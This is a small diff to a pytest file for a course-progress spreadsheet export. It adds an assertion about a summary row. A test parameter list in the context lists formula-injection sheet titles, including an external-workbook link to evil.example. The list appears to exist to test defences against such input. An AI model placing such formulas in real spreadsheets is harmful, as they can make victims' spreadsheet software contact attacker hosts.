@@ -150,6 +150,7 @@ def test_progress_keeps_courses_together_and_charts_each() -> None:
     ]
     assert len(book["Summary"]._charts) == 2
     assert len(rows(book["Achievements"])) == 4
+    assert ("average over the courses", 0.8105) in [row[:2] for row in rows(book["Summary"])]
 
 
 @pytest.mark.parametrize("title", ["=Summary!$A$1", "='[http://evil.example/x.xlsx]S'!A1", "Hurra!A1"])
